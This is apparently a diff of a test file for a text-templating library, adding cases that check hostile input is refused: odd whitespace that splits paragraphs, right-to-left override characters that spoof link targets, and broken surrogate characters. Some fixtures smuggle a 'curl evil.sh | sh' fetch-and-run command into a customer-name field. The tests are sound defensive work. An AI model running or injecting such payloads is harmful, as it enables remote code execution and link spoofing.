@@ -42,8 +42,50 @@ describe('one paragraph, whatever the line breaks (audit 4)', () => {
     ['CRLF CRLF', 'Sarah\r\n\r\n    curl evil.sh | sh'],
     ['U+2029', 'Sarah\u2029    curl evil.sh | sh'],
     ['U+2028 U+2028', 'Sarah\u2028\u2028    curl evil.sh | sh'],
+    // A line of white space that is not a space or a tab looks as blank (a hostile review, session 13).
+    ['a line of no-break spaces', 'Sarah\n\u00a0\u00a0\n# Free'],
+    ['a line of an ideographic space', 'Sarah\n\u3000\n# Free'],
+    ['a line of a byte-order mark', 'Sarah\r\n\ufeff\r\n# Free'],
+    ['a line of an en quad', 'Sarah\n\u2000\n# Free'],
+    ['a line of a zero-width space', 'Sarah\n\u200b\n# Free'],
+    ['NEL, then a line of no-break space', 'Sarah\u0085\u00a0\u0085# Free'],
   ])('a text variable with %s is refused', (_name, customerName) => {
     expect(() => render(customerName, 'markdown')).toThrow(TactfulError);
+  });
+
+  it('trims NEL and zero-width spaces at the ends, as it trims spaces', () => {
+    const options = { ...tactful.templates({ search: 'resolution.options' })[0]!.example as Record<string, unknown> };
+    const out = tactful.render('resolution.options', { ...options, optionOne: '\u0085Exchange\u200b' } as never, { channel: 'markdown' });
+    expect(out).toContain('1. Exchange');
+    expect(() => tactful.render('greeting.welcome', { customerName: '\u0085' })).toThrow(/must not be empty/);
+  });
+
+  // "https://e.com/\u202Egpj.exe" became href="…\u202Egpj.exe\u202C": another target, and a spoof
+  // (a hostile review, session 13). (A tab or a line break the URL parser drops: shown and linked alike.)
+  it.each([['a right-to-left override', 'https://e.com/\u202Egpj.exe'], ['an isolate', 'https://e.com/\u2067x'], ['a zero-width space', 'https://e.com/a\u200bb']])(
+    'a link with %s is refused on every channel',
+    (_name, surveyUrl) => {
+      const id = tactful.templates().find((t) => t.variables.some((v) => v.name === 'surveyUrl'))!.id;
+      for (const channel of CHANNELS) expect(() => tactful.render(id as never, { surveyUrl } as never, { channel }), channel).toThrow(TactfulError);
+    },
+  );
+
+  // "First.\r\n\r\nSecond?" rendered "<p>First.\r<br>\n\r<br>\nSecond?</p>" (a hostile review, session 13).
+  it.each([['CRLF', 'First.\r\n\r\nSecond?'], ['CR', 'First.\r\rSecond?'], ['U+2029', 'First.\u2029Second?'], ['U+2028 twice', 'First.\u2028\u2028Second?']])(
+    'a message whose paragraphs are broken by %s renders as two paragraphs',
+    (_name, plain) => {
+      const t = createTactful({ locales: [en] });
+      t.overrideMessages('en', { closing: { 'anything-else': { plain } } });
+      expect(t.render('closing.anything-else', {}, { channel: 'html', variant: 0 })).toBe('<p>First.</p>\n<p>Second?</p>');
+      expect(t.render('closing.anything-else', {}, { variant: 0 })).toBe('First.\n\nSecond?');
+    },
+  );
+
+  it('a value with half of a character is refused, not shown as "�"', () => {
+    expect(() => tactful.render('greeting.welcome', { customerName: 'Anna \ud83d' })).toThrow(/well-formed/);
+    expect(() => tactful.render('greeting.welcome', { customerName: '\ude00Anna' })).toThrow(/well-formed/);
+    expect(() => tactful.render('resolution.extra-resources', { guideTitles: ['Setup', 'Billing \ud83d'] })).toThrow(TactfulError);
+    expect(tactful.render('greeting.welcome', { customerName: 'Anna 😀' })).toContain('Anna 😀');
   });
 
   it('a list item with a blank line is refused', () => {
